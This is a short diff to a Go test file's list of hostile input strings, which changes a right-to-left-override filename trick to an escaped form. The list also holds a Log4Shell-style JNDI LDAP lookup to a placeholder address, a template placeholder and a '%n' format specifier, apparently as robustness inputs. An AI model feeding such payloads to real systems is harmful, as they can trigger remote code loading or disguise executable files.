@@ -42,7 +42,7 @@ var hostile = []string{
 	`{{.Name}} ${jndi:ldap://192.0.2.1/a} %n`,
 	`%PDF-1.7 endobj (\) Tj ET`,
 	`髙橋・𠮷野 端末①㈱`,
-	"PC‮cod.exe",
+	"PC\u202ecod.exe",
 }
 
 // fill answers a sheet with something of everything and a small ledger.
